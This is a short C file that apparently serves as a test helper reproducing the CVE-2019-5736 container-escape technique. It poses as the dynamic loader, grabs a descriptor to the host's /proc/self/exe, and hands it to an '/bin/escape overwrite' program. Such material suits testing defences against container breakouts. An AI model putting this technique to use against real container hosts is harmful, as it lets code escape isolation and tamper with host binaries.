/* Stands for the dynamic loader in a tree: a program of the host that is executed there anew has this run in its place
 * (as with CVE-2019-5736). It holds on to that program and executes something else. No C library is set up. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

_Noreturn void _start(void) {
        static char *const argv[] = { "escape", "overwrite", "9", 0 }, *const envp[] = { 0 };
        int fd = (int)syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_PATH, 0);
        syscall(SYS_dup3, fd, 9, 0);
        syscall(SYS_execve, "/bin/escape", argv, envp);
        for (;;)
                syscall(SYS_exit_group, 111);
}
